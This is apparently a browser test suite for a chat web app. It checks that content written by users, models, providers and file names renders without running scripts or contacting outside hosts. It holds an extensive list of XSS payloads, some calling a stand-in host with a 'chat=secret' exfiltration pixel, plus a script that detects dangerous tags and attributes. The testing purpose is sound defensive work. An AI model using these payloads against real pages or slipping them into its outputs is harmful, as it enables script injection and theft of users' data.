"""Lines 16 to 18: what others write, shown in a real browser: nothing runs, and nothing leaves."""

import json
import re
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import ClassVar
from urllib.parse import quote

import pytest
from playwright.sync_api import Error, expect

from browsing import browsing, watch_of
from running import Home, serving
from talking import Talker

CANARY = "https://canary.example"
BACKTICKS = "```"
# Each tries to run something or to reach a host that listens for whoever was fooled.
PAYLOADS = [
    "<script>window.pwned = 1; alert(1)</script>",
    f"<script src='{CANARY}/a.js'></script>",
    "<img src=x onerror='window.pwned = 1'>",
    f"<img src='{CANARY}/pixel.png' onload='window.pwned = 1'>",
    f"![c]({CANARY}/pixel.png?chat=secret)",
    f"![c][ref]\n\n[ref]: {CANARY}/pixel.png",
    f'![c](<{CANARY}/a.png" onerror="window.pwned=1>)',
    "[click](javascript:window.pwned=1)",
    "[click](JaVaScRiPt&#58;window.pwned=1)",
    "[click](&#x6A;avascript:alert(1))",
    "<javascript:alert(1)>",
    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1)) [click](blob:null/x) [click](/api/session)",
    "<a href='javascript:window.pwned=1' id=location name=cookie>click</a>",
    "<a href='\tjava\nscript:window.pwned=1'>click</a>",
    "<svg onload='window.pwned=1'><animate onbegin='pwned=1' attributeName=x dur=1s /></svg>",
    "<svg><a xlink:href='javascript:window.pwned=1'><text y=20>click</text></a></svg>",
    f"<svg><use href='{CANARY}/x.svg#y'/><image href='{CANARY}/x.png'/></svg>",
    f"<style>@import '{CANARY}/x.css'; body {{ background: url({CANARY}/bg) }}</style>",
    f"<div style='background:url({CANARY}/bg); position:fixed; inset:0'>over all</div>",
    f"<link rel=stylesheet href='{CANARY}/x.css'><link rel=prefetch href='{CANARY}/p'>",
    f"<link rel=dns-prefetch href='{CANARY}'><link rel=preconnect href='{CANARY}'>",
    f"<meta http-equiv=refresh content='0;url={CANARY}/moved'><base href='{CANARY}/'>",
    f"<iframe src='{CANARY}/f'></iframe>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    f"<object data='{CANARY}/o'></object><embed src='{CANARY}/e'>",
    f"<video src='{CANARY}/v' poster='{CANARY}/p' autoplay></video>",
    f"<audio src='{CANARY}/a' autoplay></audio>",
    f"<video><source onerror='window.pwned=1' src='{CANARY}/v'></video>",
    f"<form action='{CANARY}/f'><button autofocus onfocus='window.pwned=1'>Send</button></form>",
    f"<input type=image src='{CANARY}/i' onerror='window.pwned=1'>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle='window.pwned=1'><summary>more</summary>here</details>",
    f"<picture><source srcset='{CANARY}/s'><img srcset='{CANARY}/t 2x'></picture>",
    f"<table background='{CANARY}/t'><tr><td background='{CANARY}/d'>x</table>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=a>'>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'></noscript>",
    "<svg></p><style><a id='</style><img src=1 onerror=window.pwned=1>'></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>",
    "<template><img src=x onerror=pwned=1></template><xmp><img src=x onerror=alert(1)></xmp>",
    "</textarea><script>window.pwned=1</script></title><script>window.pwned=1</script>",
    f"{BACKTICKS}html\n<script>window.pwned=1</script><img src=x onerror=alert(1)>\n{BACKTICKS}",
    f'{BACKTICKS}"><img src=x onerror=window.pwned=1>\nx\n{BACKTICKS}',
    f"{BACKTICKS}mermaid\ngraph TD; A[<img src=x onerror=window.pwned=1>] --> B\n{BACKTICKS}",
    r"$\href{javascript:window.pwned=1}{x}$ $\url{javascript:alert(1)}$ $\htmlId{root}{x}$",
    rf"$$\includegraphics{{{CANARY}/k.png}} \htmlStyle{{background:url({CANARY}/k)}}{{x}}$$",
    r"$\def\a{\a\a}\a$ $$\rule{9999em}{9999em}$$",
    f"{CANARY}/auto-linked www.canary.example/auto mailto:a@canary.example",
    f"[{CANARY.replace('canary', 'bank')}]({CANARY}/phish) [at](https://127.0.0.1@canary.example/)",
    "<x-element onclick='window.pwned=1' is=x>x</x-element><slot onslotchange=alert(1)></slot>",
    "<button popovertarget=p onclick='window.pwned=1'>b</button><div popover id=p>p</div>",
    "<p id=root class='mantine-Modal-root' data-autofocus dir=rtl lang='\"><b>'>clobbered</p>",
    "\u202egnp.exe <b>" + "<i>" * 300 + "deep" + "\ufeff\u2028",
]
HOSTILE = "\n\n".join(PAYLOADS)
NAME = "<img src=x onerror=pwned=1><script>pwned=1</script>"

# What must not be among what is shown, whoever wrote it.
_HARMFUL = r"""
() => {
  const tags = "script, iframe, frame, object, embed, base, link, meta, form[action], animate, " +
    "use, video, audio, source, noscript, style, portal";
  const addresses = /^(href|src|srcset|action|formaction|data|poster|background|xlink:href|ping)$/;
  const loads = /^(src|srcset|poster|background|data|ping|style)$/;
  const runs = /^[\s\x00-\x20]*(javascript|vbscript|data:(?!image\/))/i;
  const found = window.pwned ? ["it ran"] : [];
  for (const one of document.body.querySelectorAll(":scope > :not(noscript) *, :scope > div")) {
    const isOurs = one.nonce || one.src?.startsWith?.(location.origin);
    if (one.matches(tags) && !isOurs) found.push(one.outerHTML.slice(0, 150));
    for (const { name, value } of one.attributes) {
      const isHarmful = name.startsWith("on")
        || (addresses.test(name) && runs.test(value))
        || (loads.test(name) && value.includes("canary"));
      if (isHarmful) found.push(`${one.tagName} ${name}=${value.slice(0, 150)}`);
    }
  }
  return found;
}
"""


class HostileProvider(BaseHTTPRequestHandler):
    """Speaks Chat Completions, and means ill: the model's name says in which way."""

    MODELS: ClassVar[list[str]] = ["writes", "thinks", "fails", "fails-html", NAME]

    def do_GET(self):
        models = [{"id": one, "object": "model", "owned_by": NAME} for one in self.MODELS]
        self.answer(200, "application/json", json.dumps({"object": "list", "data": models}))

    def do_POST(self):
        asked = json.loads(self.rfile.read(int(self.headers["content-length"])))
        match asked["model"]:
            case "fails":
                error = {"message": HOSTILE, "type": NAME, "code": NAME, "param": NAME}
                self.answer(400, "application/json", json.dumps({"error": error}))
            case "fails-html":
                self.answer(500, "text/html", f"<html><body>{HOSTILE}</body></html>")
            case _:
                self.stream(asked["model"])

    def stream(self, model):
        # Broken off in the midst of tags, as tokens are.
        pieces = [HOSTILE[at : at + 7] for at in range(0, len(HOSTILE), 7)]
        deltas = [{"content": piece} for piece in pieces]
        if model == "thinks":
            deltas = [{"reasoning_content": piece} for piece in pieces] + deltas
        chunks = [
            {"id": NAME, "model": NAME, "choices": [{"index": 0, "delta": delta}]}
            for delta in deltas
        ]
        chunks.append({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
        events = "".join(f"data: {json.dumps(chunk)}\n\n" for chunk in chunks)
        self.answer(200, "text/event-stream", events + "data: [DONE]\n\n")

    def answer(self, status, kind, body):
        body = body.encode("utf-8", "surrogatepass")
        self.send_response(status)
        self.send_header("content-type", kind)
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        pass


@pytest.fixture(scope="module")
def windows():
    with browsing() as windows:
        yield windows


@pytest.fixture(scope="module")
def provider():
    server = ThreadingHTTPServer(("127.0.0.1", 0), HostileProvider)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}/v1"
    server.shutdown()
    server.server_close()
    thread.join(5)


@pytest.fixture(scope="module")
def home(tmp_path_factory, provider):
    home = Home(tmp_path_factory.mktemp("home"), {"TAPSTER_BACKUPS": "off"})
    home.add("ill", "custom", "--endpoint", provider, "--model", "writes", key=None)
    return home


@pytest.fixture(scope="module")
def server(windows, home):
    with serving(home) as server:
        yield server


@pytest.fixture(scope="module")
def talker(home, server):
    token = home.run("tokens", "create", "tests", "--scope", "api", "--scope", "admin").strip()
    with Talker(server.url, token) as talker:
        yield talker


@pytest.fixture
def page(windows, server):
    with windows.open(server.url) as page:
        yield page


def assert_harmless(page):
    """Assert that nothing ran, and nothing is there that could."""
    page.wait_for_timeout(150)

    assert page.evaluate(_HARMFUL) == []


def settle(page):
    expect(page.locator("#main")).to_be_visible()
    page.wait_for_load_state("networkidle")


@pytest.fixture(scope="module")
def chat(talker):
    """A chat in which the person and the model say the worst, under the worst title."""
    chat = talker.chat(connection="ill", model="writes", title=NAME)
    talker.post(f"/api/chats/{chat}/messages", {"text": "THE BEGINNING", "answer": False})
    for number, payload in enumerate([*PAYLOADS, *PAYLOADS[:1]]):
        # Both roles say all of it, each in a message of its own: some swallow what follows.
        for role in ("user", "assistant")[:: 1 if number % 2 else -1]:
            body = {"text": payload, "role": role, "author": NAME, "answer": False}
            talker.post(f"/api/chats/{chat}/messages", body)
    talker.post(f"/api/chats/{chat}/messages", {"text": "THE END", "answer": False})
    return chat


def test_the_payloads_do_their_work_where_nobody_stops_them(windows, server):
    with windows.open(server.url, bypass_csp=True) as page:
        page.goto("/")
        page.evaluate(
            """(all) => all.forEach((html) => {
              document.querySelector("#root").insertAdjacentHTML("beforeend", `<p>${html}</p>`);
            })""",
            [each for each in PAYLOADS if each.startswith("<") and "refresh" not in each],
        )
        page.wait_for_function("window.pwned")
        page.wait_for_timeout(200)
        harmful = page.evaluate(_HARMFUL)
        watch = watch_of(page)
        left = watch.left()
        watch.forgive("")
    # What is still on its way belongs to this test.
    time.sleep(1)
    windows.canary.heard.clear()

    assert len(harmful) > 40
    assert any("canary.example/pixel.png" in trouble for trouble in left)
    assert any("left for another host" in trouble for trouble in left)


def test_what_a_model_has_written_does_nothing(page, chat):
    page.goto(f"/chats/{chat}")
    end = page.get_by_role("article").get_by_text("THE END", exact=True)
    expect(end).to_be_visible()
    beginning = page.get_by_role("article").get_by_text("THE BEGINNING", exact=True)
    page.mouse.move(850, 400)

    for _ in range(200):
        assert page.evaluate(_HARMFUL) == []
        if beginning.count():
            break
        page.mouse.wheel(0, -1500)
        page.wait_for_timeout(60)

    expect(beginning).to_be_attached()
    assert_harmless(page)


def test_what_a_model_writes_just_now_does_nothing(page, talker):
    chat = talker.chat(connection="ill", model="thinks")
    page.goto(f"/chats/{chat}")
    expect(page.get_by_role("textbox", name="Message", exact=True)).to_be_editable()

    run = talker.say(chat, "Begin.")
    answer = page.locator("article[data-role=assistant]")
    expect(answer).to_have_count(1)
    while talker.run(run)["state"] == "running":
        assert page.evaluate(_HARMFUL) == []

    expect(answer.and_(page.locator("[aria-busy=false]"))).to_have_count(1)
    assert_harmless(page)
    answer.get_by_role("button", name=re.compile("Thought")).click()
    expect(answer).to_contain_text("click")
    assert_harmless(page)


@pytest.mark.parametrize("model", ["fails", "fails-html"])
def test_what_a_provider_says_of_an_error_does_nothing(page, talker, model):
    chat = talker.chat(connection="ill", model=model)
    talker.finish(talker.say(chat, "Begin."))

    page.goto(f"/chats/{chat}")

    page.get_by_role("button", name="Details").first.click()
    expect(page.get_by_role("button", name="Retry").first).to_be_visible()
    assert_harmless(page)


@pytest.mark.parametrize(
    "path", ["/", "/chats", "/search?q=click", "/search?q=" + quote(NAME), "/settings"]
)
def test_titles_and_what_is_found_do_nothing_on_any_page(page, chat, path):
    page.goto(path)
    settle(page)

    assert_harmless(page)


def test_a_tree_of_such_words_does_nothing(page, chat):
    page.goto(f"/chats/{chat}/tree")
    settle(page)

    assert_harmless(page)


def test_names_of_models_and_connections_do_nothing(page, talker, provider):
    options = {"endpoint": provider, "model": NAME, "notes": HOSTILE, "show_external": True}
    made = talker.post("/api/connections", {"name": NAME, "source": "custom", **options})

    page.goto(f"/connections/{made['id']}")
    settle(page)
    assert_harmless(page)
    page.get_by_role("button", name="Connect", exact=True).first.click()
    expect(page.get_by_role("status").filter(has_text="Ready.").first).to_be_visible()
    page.get_by_role("button", name=re.compile("^Model:")).click()

    assert_harmless(page)


def test_names_of_files_do_nothing(page, talker):
    name = quote('<img src=x onerror=window.pwned=1>"><script>alert(1)</script>.txt')
    file = talker.http.post(
        f"/api/attachments?name={name}", content=b"words", headers={"content-type": "text/plain"}
    ).json()
    chat = talker.chat(connection="ill", model="writes")
    part = {"type": "file", "url": f"attachment:{file['id']}", "name": file["name"]}
    words = {"type": "text", "text": "See there."}
    talker.post(f"/api/chats/{chat}/messages", {"parts": [words, part], "answer": False})

    page.goto(f"/chats/{chat}")
    expect(page.get_by_text("See there.").first).to_be_visible()

    assert_harmless(page)


DOCUMENTS = {
    "page.html": ("text/html", "<script>window.pwned = 1; alert(1)</script>"),
    "picture.svg": (
        "image/svg+xml",
        "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
    ),
    "page.xhtml": (
        "application/xhtml+xml",
        "<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>",
    ),
}


@pytest.mark.parametrize("name", DOCUMENTS)
def test_a_document_that_was_uploaded_is_a_download_where_it_is_opened(page, talker, name):
    kind, content = DOCUMENTS[name]
    file = talker.http.post(
        f"/api/attachments?name={name}", content=content.encode(), headers={"content-type": kind}
    ).json()
    page.goto("/")

    with page.expect_download() as download, pytest.raises(Error, match="Download is starting"):
        page.goto(f"/api/attachments/{file['id']}/content")

    assert download.value.suggested_filename.startswith(name.partition(".")[0])
    assert page.evaluate("window.pwned") is None
    assert not watch_of(page).left()
